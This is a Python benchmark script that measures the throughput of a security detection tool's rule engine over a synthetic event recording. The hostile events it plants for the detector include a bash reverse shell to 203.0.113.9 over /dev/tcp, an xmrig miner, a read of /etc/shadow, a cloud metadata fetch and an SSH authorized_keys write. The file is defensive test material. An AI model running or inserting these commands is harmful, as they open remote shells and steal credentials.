"""Throughput of the whole built-in rule pack on one core, over recorded events.

Target (issue 6): ≥ 100,000 events/s. Events come from a JSONL recording (``vigil record``
format, ``--events FILE``) or, by default, from a synthetic recording of a busy web workload
(execs, opens, connects, DNS, a little of everything else, about 1% hostile), generated
deterministically (fixed seed) into a temporary file and read back like a recording. Every
event goes through the detector path the agent runs: the event-type and value indexes, each
offered rule's predicate, output formatting for matches.

    .venv/bin/python bench/rules_throughput.py [--events FILE] [--seconds 5] [--write]
"""

from __future__ import annotations

import argparse
import json
import os
import platform
import random
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

from vigil.detect.rules import RuleEngine, RulesDetector, builtin_rule_files, compile_files
from vigil.models import Event, EventType, event_from_json

HERE = Path(__file__).parent
TARGET = 100_000


def make_recording(path: Path, count: int = 5000, seed: int = 6) -> None:
    """A deterministic recording with a realistic mix (written once, committed)."""
    from tests.fixtures.rules_events import ev, read, run, write  # the same builders the tests use

    rng = random.Random(seed)  # noqa: S311 - a reproducible mix, not a secret
    benign: list[Callable[[], Event]] = [
        lambda: run("/usr/sbin/nginx -g daemon off;", parent="/usr/bin/tini"),
        lambda: run("/bin/sh -c /usr/local/bin/healthcheck", parent="/usr/bin/containerd-shim"),
        lambda: run("/usr/local/bin/healthcheck", parent="/bin/sh"),
        lambda: run("/usr/bin/python3 manage.py runworker", parent="/bin/sh"),
        lambda: run("/usr/bin/curl -s http://10.0.0.8:8080/ready", parent="/bin/sh"),
        lambda: read("/etc/hosts", exe="/usr/sbin/nginx"),
        lambda: read("/app/static/index.html", exe="/usr/sbin/nginx"),
        lambda: read("/etc/ssl/certs/ca-certificates.crt", exe="/usr/bin/python3"),
        lambda: write("/tmp/uwsgi.sock.lock", exe="/usr/bin/python3"),
        lambda: write("/var/cache/nginx/proxy/1/ab", exe="/usr/sbin/nginx"),
        lambda: ev("connect", exe="/usr/bin/python3", ip="10.0.3.7", port=5432),
        lambda: ev("connect", exe="/usr/bin/python3", ip="10.0.3.9", port=6379),
        lambda: ev("connect", exe="/usr/bin/python3", ip="52.94.236.248", port=443),
        lambda: ev("accept", exe="/usr/sbin/nginx", ip="10.0.9.1", port=52000),
        lambda: ev(
            "dns", exe="/usr/bin/python3", dns="db.shop.svc.cluster.local", ip="10.96.0.10", port=53
        ),
        lambda: ev("exit", exe="/usr/local/bin/healthcheck"),
        lambda: ev("fork", exe="/usr/sbin/nginx"),
        lambda: ev("unlink", path="/tmp/uwsgi.sock.lock", exe="/usr/bin/python3"),
        lambda: ev("chmod", path="/app/run.sh", mode=0o644, exe="/bin/sh"),
    ]
    weights = [8, 6, 6, 4, 3, 10, 12, 4, 5, 5, 10, 6, 4, 5, 4, 3, 3, 1, 1]
    hostile: list[Callable[[], Event]] = [
        lambda: run(
            "/bin/sh -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", parent="/usr/sbin/nginx"
        ),
        lambda: run("/opt/xmrig -o stratum+tcp://pool.example:3333"),
        lambda: read("/etc/shadow", exe="/bin/cat"),
        lambda: ev("connect", exe="/usr/bin/wget", ip="169.254.169.254", port=80),
        lambda: write("/root/.ssh/authorized_keys", exe="/bin/sh"),
    ]
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w") as out:
        for _ in range(count):
            make = rng.choice(hostile) if rng.random() < 0.01 else rng.choices(benign, weights)[0]
            out.write(json.dumps(make().to_json()) + "\n")


def load(path: Path) -> list[Event]:
    return [event_from_json(json.loads(line)) for line in path.read_text().splitlines() if line]


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--events", type=Path, default=None, help="a JSONL recording")
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--write", action="store_true", help="also write bench/results/")
    args = parser.parse_args()
    if hasattr(os, "sched_setaffinity"):
        os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})  # one core
    with tempfile.TemporaryDirectory() as scratch:
        recording = args.events
        if recording is None:
            sys.path.insert(0, str(HERE.parent))
            recording = Path(scratch) / "synthetic_web_workload.jsonl"
            make_recording(recording)
        events = load(recording)
    started = time.perf_counter()
    compiled = compile_files(builtin_rule_files())
    compile_s = time.perf_counter() - started
    engine = RuleEngine(compiled.rules)
    detector = RulesDetector(engine)  # no dedup: every match is formatted
    candidates = sum(engine.candidates(e.type) for e in events) / len(events)
    offered = sum(engine.offered(e) for e in events) / len(events)
    matches = sum(len(detector.observe(e)) for e in events)
    processed = 0
    # CPU time of this thread: the machine is shared, and time spent descheduled is not the
    # engine's cost. Wall-clock throughput is printed too.
    started, cpu_started = time.perf_counter(), time.thread_time()
    while time.perf_counter() - started < args.seconds:
        for event in events:
            detector.observe(event)
        processed += len(events)
    elapsed = time.perf_counter() - started
    cpu = time.thread_time() - cpu_started
    rate = processed / cpu
    wall_rate = processed / elapsed
    by_type: dict[EventType, int] = {}
    for e in events:
        by_type[e.type] = by_type.get(e.type, 0) + 1
    lines = [
        "rules throughput — whole built-in pack, one core",
        f"python {platform.python_version()} on {platform.machine()}, "
        f"{os.cpu_count()} cpus (pinned to 1)",
        f"rules: {len(compiled.rules)} (compiled in {compile_s:.2f}s)",
        f"recording: {recording.name}, {len(events)} events, "
        + ", ".join(f"{t.value} {n}" for t, n in sorted(by_type.items(), key=lambda kv: -kv[1])),
        f"rules per event: {candidates:.1f} of {len(compiled.rules)} after the event-type index, "
        f"{offered:.1f} after the value index (proc.name, fd.name, …)",
        f"matches per pass: {matches} ({matches / len(events):.1%} of events)",
        f"throughput: {rate:,.0f} events/s per CPU-second ({processed:,} events, {cpu:.2f}s CPU, "
        f"{elapsed:.2f}s wall = {wall_rate:,.0f} events/s wall on a shared machine, "
        f"load {os.getloadavg()[0]:.1f})",
        f"target: >= {TARGET:,} events/s -> {'MET' if rate >= TARGET else 'NOT MET'} "
        f"({rate / TARGET:.2f}x)",
    ]
    print("\n".join(lines))
    if args.write:
        (HERE / "results" / "rules_throughput.txt").write_text("\n".join(lines) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
